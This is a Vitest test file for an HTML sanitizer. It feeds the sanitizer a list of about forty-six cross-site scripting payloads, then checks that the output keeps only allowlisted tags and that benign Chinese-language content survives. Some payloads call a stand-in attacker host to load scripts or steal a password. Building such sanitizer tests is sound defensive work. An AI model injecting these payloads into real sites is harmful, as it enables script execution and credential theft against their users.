// Hostile HTML comes out harmless, the same after a second pass, and what people write stays.
import { expect, test } from 'vitest';
import { isEmpty, sanitizeDocument } from './documents.sanitize.ts';

const image = '/upload/v1/image/01234567-89ab-cdef-0123-456789abcdef';

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/track.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  `<img src="${image}" onload="alert(1)">`,
  `<img src="${image}/../../admin">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" style="position:fixed;inset:0">x</a>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="text-align:center;background-image:url(https://evil.example)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>x</body>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<p>"><img src=x onerror=alert(1)></p>',
  '<x onclick=alert(1)>x</x>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
];

test.each(hostile)('%s', (html) => {
  const clean = sanitizeDocument(html);
  expect(sanitizeDocument(clean)).toBe(clean);
  // Every part that is left is text, or one of these tags with one of these attributes.
  const tags = [...clean.matchAll(/<\/?([a-z0-9]*)([^>]*)>/gi)];
  const attribute = String.raw`(href="(https?:\/\/|mailto:|tel:)[^"]*"|target="_blank"|rel="noopener noreferrer"|style="text-align:\w+"|src="${image}"|alt="[^"]*")`;
  for (const [, name, attributes] of tags) {
    expect(['p', 'a', 'img', 'strong', 'br']).toContain(name);
    expect(attributes).toMatch(new RegExp(String.raw`^( ${attribute})*( \/)?$`));
  }
  expect(clean).not.toMatch(/evil\.example\/(x|track)/);
});

test('there are at least forty of them', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(40);
});

test('what people write stays as they wrote it', () => {
  const written = [
    '<h2 style="text-align:center">风险披露</h2>',
    '<p>投资有<strong>风险</strong>，<em>入市</em>需<u>谨慎</u>。<br />第二行</p>',
    '<ul><li><p>一</p></li><li><p>二</p></li></ul>',
    '<blockquote><p>引用</p></blockquote>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">链接</a></p>',
    `<img src="${image}" alt="图" />`,
  ].join('');
  expect(sanitizeDocument(written)).toBe(written);
  expect([isEmpty(written), isEmpty('<p></p>'), isEmpty('<p>&nbsp; </p>')]).toEqual([false, true, true]);
});
